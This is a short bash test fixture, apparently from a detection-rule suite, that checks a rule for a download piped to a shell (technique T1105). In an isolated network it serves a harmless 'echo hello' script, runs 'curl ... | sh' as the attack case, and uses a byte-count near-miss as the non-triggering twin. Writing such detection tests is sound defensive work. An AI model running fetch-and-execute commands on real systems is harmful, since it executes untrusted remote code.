#!/bin/bash
# What a download tool brings is handed to a shell at once.
#: title: Download piped to a shell
#: technique: T1105
#: needs: exec
#: rules: download_piped_to_shell
#: twin: a download is counted, and a script of this host is piped to a shell
. "$DRIVERS/lib.sh"

serve() {
	mkdir site
	echo 'echo hello' >site/install.sh
	(cd site && exec python3 -u -m http.server 8080 --bind 203.0.113.7 >../listening 2>&1) &
	trap 'kill %1' EXIT
	wait_for grep -q Serving listening
}

piped() {
	serve
	curl -s http://203.0.113.7:8080/install.sh | sh
}

counted() {
	serve
	curl -s http://203.0.113.7:8080/install.sh | wc -c
	sleep 0.5 # a pipeline's parts begin together
	cat site/install.sh | sh
}

attack() {
	export -f serve
	in_own_network piped
	did http://203.0.113.7:8080/install.sh
}

twin() {
	export -f serve
	in_own_network counted
	did http://203.0.113.7:8080/install.sh
}

"$1"
